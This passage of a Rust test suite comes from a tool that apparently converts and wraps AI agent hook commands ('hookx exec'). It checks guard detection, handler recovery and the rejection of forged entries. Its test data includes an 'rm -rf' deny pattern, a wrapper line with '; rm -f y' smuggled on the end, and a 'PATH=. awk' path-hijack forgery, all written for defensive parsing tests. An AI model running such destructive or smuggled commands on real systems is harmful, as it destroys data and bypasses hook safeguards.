                    line.replace("awk '{t+=", "awk 'BEGIN{exit 0}{t+="),
                    line.replace("LC_ALL=C awk", "LC_ALL=C PATH=. awk"),
                    match only.is_empty() {
                        true => line.clone(),
                        false => line.replace("'Bash|Edit'", "Bash"),
                    },
                ] {
                    if forged == line {
                        continue;
                    }
                    assert_eq!(wrapped_command(&forged), None, "{forged}");
                    assert_eq!(unwrapped(&forged).map(|u| u.command), None, "{forged}");
                }
            }
        }
    }

    /// A guard written today is never taken for an older one, whatever the hookx path, flavour
    /// and event; any other guard before the same `hookx exec` is, and says what today's does.
    #[test]
    fn only_a_guard_other_than_todays_is_outdated() {
        for hookx in ["hookx", "/no where/it's/hookx"] {
            for &to in Flavor::all() {
                for (kind, _) in to.tables().events {
                    let exec = format!(
                        " {} exec --host {} --as claude --event {kind} --timeout 600 -- 'x --host y'",
                        shell_quote(hookx),
                        to.dialect()
                    );
                    let today = format!("{}{exec}", not_installed_guard(hookx, kind, to));
                    assert_eq!(outdated_guard(&today, to), None, "{today}");
                    let quoted = shell_quote(hookx);
                    let other = if to.tables().protocol.fails_closed(kind) {
                        format!(
                            "command -v {quoted} >/dev/null 2>&1 || {{ echo {quoted} >&2; exit 1; }};"
                        )
                    } else {
                        format!("command -v {quoted} >/dev/null 2>&1 || {{ echo m >&2; exit 2; }};")
                    };
                    let old = outdated_guard(&format!("{other}{exec}"), to)
                        .unwrap_or_else(|| panic!("{other}{exec}"));
                    assert_eq!(
                        (&old.event, old.host, old.fails_closed),
                        (kind, to, to.tables().protocol.fails_closed(kind))
                    );
                }
            }
        }
        // Not a wrapped entry: nothing to say.
        for line in [
            "echo hi",
            "command -v jq >/dev/null 2>&1 || exit 0; jq .",
            "command -v hookx >/dev/null 2>&1 || { exit 1; }; hookx run --host claude",
        ] {
            assert_eq!(outdated_guard(line, Flavor::all()[0]), None, "{line}");
        }
    }

    /// Every form of wrapped entry hookx has written gives back the handler it runs: today's
    /// (no `--timeout` where the handler had none), today's with a `--hookx` path, the
    /// guards of earlier versions (the long message and exit 2; the answer printed with
    /// `printf '%s'`; the short message), and the bare form of the versions that wrapped only
    /// when asked, with no guard and no `--host`.
    #[test]
    fn every_wrapper_form_hookx_wrote_gives_back_its_handler() {
        let long = "hookx not found (command -v hookx failed): this hook was converted by hookx convert and runs through hookx exec. Install hookx (cargo install --locked --path <hookx checkout>) or convert again with --hookx PATH.";
        let copilot = Flavor::named("copilot").unwrap();
        let today = |hookx: &str, rest: &str| {
            format!(
                "{} {} exec --host copilot --as claude --event PreToolUse{rest}",
                not_installed_guard(hookx, &EventKind::PreToolUse, copilot),
                shell_quote(hookx)
            )
        };
        let command = "jq -r '.tool_input.command' | grep -q 'rm -rf' && exit 2 || true";
        let quoted = shell_quote(command);
        let shortest = crate::shell::shell_quote_shortest(command);
        let forms = [
            today("hookx", &format!(" -- {shortest}")),
            today(
                "/opt/my tools/hookx",
                &format!(" --timeout 30 --match 'Bash|Edit' --if 'Bash(rm *)' -- {shortest}"),
            ),
            format!(
                "command -v hookx >/dev/null 2>&1 || {{ echo {} >&2; exit 2; }}; hookx exec --host copilot --as claude --event PreToolUse --timeout 600 -- {quoted}",
                shell_quote(long)
            ),
            format!(
                "command -v hookx >/dev/null 2>&1 || {{ printf '%s\\n' '{{\"permissionDecision\":\"deny\"}}'; echo {} >&2; exit 0; }}; hookx exec --host copilot --as claude --event PreToolUse --timeout 600 -- {quoted}",
                shell_quote(long)
            ),
            format!(
                "command -v hookx >/dev/null 2>&1 || {{ m={}; printf '%s\\n' \"$m\"; echo \"$m\" >&2; exit 2; }}; hookx exec --host copilot --as claude --event PreToolUse --timeout 600 -- {quoted}",
                shell_quote(NOT_INSTALLED)
            ),
            format!(
                "/usr/local/bin/hookx exec --as claude --event PreToolUse --timeout 600 --match Bash -- {quoted}"
            ),
            format!("hookx exec --as claude --event PreToolUse -- {quoted}"),
        ];
        let expected = [
            (None, None, None),
            (Some(30), Some("Bash|Edit"), Some("Bash(rm *)")),
            (Some(600), None, None),
            (Some(600), None, None),
            (Some(600), None, None),
            (Some(600), Some("Bash"), None),
            (None, None, None),
        ];
        for (line, (timeout, matcher, condition)) in forms.iter().zip(expected) {
            let got = unwrapped(line).unwrap_or_else(|| panic!("not read: {line}"));
            assert_eq!(got.flavor, Flavor::named("claude").unwrap(), "{line}");
            assert_eq!(got.event.as_deref(), Some("PreToolUse"), "{line}");
            assert_eq!(got.command, command, "{line}");
            assert_eq!(
                (
                    got.timeout,
                    got.matcher.as_deref(),
                    got.condition.as_deref()
                ),
                (timeout, matcher, condition),
                "{line}"
            );
            // Wrapped again by an older hookx: the innermost is the handler.
            let twice = format!(
                "{} hookx exec --host claude --as copilot --event PreToolUse --timeout 600 -- {}",
                not_installed_guard("hookx", &EventKind::PreToolUse, Flavor::all()[0]),
                shell_quote(line)
            );
            assert_eq!(unwrapped(&twice).unwrap().command, *line);
            assert_eq!(innermost(&twice).unwrap(), got);
        }
        // Not a wrapped entry: anything before or after the wrapper, an option convert never
        // writes, a flavour hookx does not know, an expansion outside quotes.
        for line in [
            "echo hookx exec --as claude -- x",
            "./check.sh && hookx exec --as claude --event Stop -- x",
            "hookx exec --as claude --event Stop -- x; rm -f y",
            "hookx exec --as claude --project . -- x",
            "hookx exec --as nobody -- x",
            "hookx exec --as claude -- $X",
            "hookx exec --as claude --event Stop",
            "hookx exec --as claude -- 'open",
            "kubectl exec --as claude -- ls",
            "command -v hookx >/dev/null 2>&1 || { exit 1; }; hookx exec --as claude -- x",
            "hookx run --host claude --event Stop",
        ] {
            assert_eq!(unwrapped(line), None, "{line}");
        }
    }
}
